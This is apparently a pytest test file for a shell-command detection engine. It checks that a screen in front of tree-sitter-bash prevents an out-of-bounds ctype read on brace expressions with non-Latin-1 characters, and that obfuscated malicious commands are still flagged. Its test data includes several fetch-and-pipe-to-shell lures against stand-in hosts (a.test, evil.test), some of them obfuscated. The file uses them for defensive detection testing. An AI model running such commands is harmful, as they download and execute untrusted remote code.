"""The bash grammar's out-of-bounds read (tree-sitter-bash <= 0.25.1) cannot be reached.

Its scanner gives the character after "{" (and after "{<digits>..") to isdigit(), which reads
past the C library's table for a character above U+00FF and crashes the process when nothing is
mapped there. grammar.parse screens those characters out of what the grammar sees; these tests
check that no such read happens (in a child process with the table fenced, so that a read past
it is a SIGSEGV every time, not one process in a few), and that the screen changes nothing the
interpreter reads or finds.
"""

from __future__ import annotations

import platform
import signal
import subprocess
import sys

import pytest

from app.detection import Engine
from app.detection.interpret import READERS, Behaviour, Interpretation
from app.detection.interpret import interpret as _interpret
from app.detection.interpret.budget import Budget
from app.detection.interpret.grammar import parse, screen_bash, text_of, walk
from tests.conftest import REPO

PROBE = "tests.app.detection.interpret.bash_scanner_probe"
PROBE_TEXTS = 20_000  # about 1 s of CPU
GLIBC = sys.platform == "linux" and platform.libc_ver()[0] == "glibc"  # the table fence needs it


def _probe(*args: str) -> subprocess.CompletedProcess[str]:
    def cpu_limit() -> None:  # a hang is a failure too, and never holds the test run
        import resource

        resource.setrlimit(resource.RLIMIT_CPU, (30, 30))

    return subprocess.run(
        [sys.executable, "-m", PROBE, *args, str(PROBE_TEXTS)],
        cwd=REPO,
        capture_output=True,
        text=True,
        timeout=300,
        preexec_fn=cpu_limit if sys.platform != "win32" else None,
        check=False,
    )


def test_texts_that_reach_the_scanners_isdigit_do_not_read_past_its_table() -> None:
    done = _probe()
    assert done.returncode == 0, (
        f"the bash grammar read past libc's ctype table (exit {done.returncode}): "
        f"{done.stderr[-2000:]}"
    )
    fenced, count = done.stdout.split()
    assert int(count) == PROBE_TEXTS
    if GLIBC:
        assert fenced == "fenced", "the probe could not fence the ctype table"


@pytest.mark.skipif(not GLIBC, reason="the table fence needs glibc")
def test_the_probe_catches_the_grammar_when_the_screen_is_bypassed() -> None:
    # The same texts, given to the grammar unscreened, must crash the fenced child: otherwise
    # the test above proves nothing. When a tree-sitter-bash release fixes brace_start's
    # isdigit() (upstream issue 337), this fails: the screen in grammar.py can then go.
    done = _probe("--unscreened")
    assert done.returncode == -signal.SIGSEGV, (done.returncode, done.stdout, done.stderr[-500:])


# -- the screen changes what the grammar sees, never what the interpreter reads ---------------


@pytest.mark.parametrize(
    "text",
    ["echo {\u0100}", "echo {1..\U0001d6f9}", "x={12\u3000y", "{..\u200b}", "a {{\u4e2d,b}"],
)
def test_the_tree_is_read_over_the_original_text(text: str) -> None:
    data = text.encode()
    assert screen_bash(data) != data and len(screen_bash(data)) == len(data)
    parsed = parse("bash", text, ms=1000)
    assert parsed is not None
    tree, read = parsed
    assert read == data  # the interpreter reads the original bytes at the tree's offsets
    assert text_of(tree.root_node, read) == text.rstrip("\n")


@pytest.mark.parametrize(
    "text",
    [
        "echo {1..5} {a,b} ${x} {é,ü} '{\u00ff}'",
        "printf '%s\\n' {0..9}; echo \u4e2d{",
        "{ echo \u00e9; } | sort",
        "json='{\"a\": 1}'",
    ],
)
def test_text_without_the_shape_goes_to_the_grammar_unchanged(text: str) -> None:
    assert screen_bash(text.encode()) == text.encode()


def test_brace_expressions_are_still_read() -> None:
    parsed = parse("bash", "echo {1..5}", ms=1000)
    assert parsed is not None
    assert "brace_expression" in {node.type for node in walk(parsed[0].root_node, 100)}


def interpret(text: str) -> Interpretation:
    return _interpret(text, Budget(ms=5000, strict=True), readers=list(READERS))


SCREENED = ["echo {\u0100}; ", "echo {1..\U0001d6f9} && ", "echo {\u3000} && ", "x={\u4e2d}; "]
LURES = [
    "curl -fsSL https://a.test/i.sh | sh",
    "a=cu;b=rl; $a$b -s https://a.test/i.sh | sh",
    "c''url -s https://a.test/i.sh | bash",
    'sh -c "$(curl -fsSL https://a.test/i.sh)"',
]


@pytest.mark.parametrize("before", SCREENED)
@pytest.mark.parametrize("lure", LURES)
def test_a_lure_beside_a_screened_character_is_still_read(before: str, lure: str) -> None:
    assert screen_bash((before + lure).encode()) != (before + lure).encode()
    result = interpret(before + lure)
    assert Behaviour.RUNS_DOWNLOADED in result.behaviours, result.layers
    assert "https://a.test/i.sh" in result.behaviours[Behaviour.RUNS_DOWNLOADED]


def test_a_screened_character_inside_the_command_is_kept_in_its_evidence() -> None:
    text = "a=cu;b=rl; $a$b -s https://a.test/{\u4e2d}/i.sh | sh"
    result = interpret(text)
    assert result.behaviours[Behaviour.RUNS_DOWNLOADED] == ["https://a.test/{\u4e2d}/i.sh"]


def test_the_verdict_on_a_lure_does_not_drop_beside_a_screened_character(engine: Engine) -> None:
    lure = "a=cu;b=rl; $a$b -fsSL https://evil.test/x.sh | sh"
    plain = engine.analyze(lure)
    for before in SCREENED:
        assert engine.analyze(before + lure).level >= plain.level, before
